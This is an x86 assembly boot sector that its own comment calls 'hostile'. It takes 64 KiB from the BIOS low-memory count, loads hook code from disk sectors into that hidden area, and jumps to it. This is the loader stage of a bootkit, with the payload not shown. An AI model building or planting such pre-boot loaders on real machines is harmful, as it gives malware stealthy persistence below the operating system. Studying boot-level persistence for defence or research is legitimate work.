; The boot sector of a hostile disk: reads the hooks behind it to the top of low memory, of which it
; takes 64 KiB away, and goes there. plant.c puts the number of their sectors in.

HOOKS_LBA               equ 2
HOOKS_KIB               equ 64
BIOS_DATA_LOW_MEMORY    equ 0x413

        bits 16
        org 0x7c00

        jmp short begin
        nop
        times 8 - ($ - $$) db 0
hook_sectors:                           ; at byte 8 (settings.h)
        dw 0

begin:
        cli
        xor ax, ax
        mov ds, ax
        mov ss, ax
        mov sp, 0x7c00
        sti
        cld
        sub word [BIOS_DATA_LOW_MEMORY], HOOKS_KIB
        mov ax, [BIOS_DATA_LOW_MEMORY]
        shl ax, 6
        mov [packet.segment], ax
        mov ax, [hook_sectors]
        mov [packet.count], ax
        mov si, packet
        mov ah, 0x42
        push dx
        int 0x13
        pop dx
        jc $
        jmp far [packet.offset]

        align 4
packet:
        dw 16
.count: dw 0
.offset:
        dw 0
.segment:
        dw 0
        dq HOOKS_LBA

        times 510 - ($ - $$) db 0
        dw 0xaa55
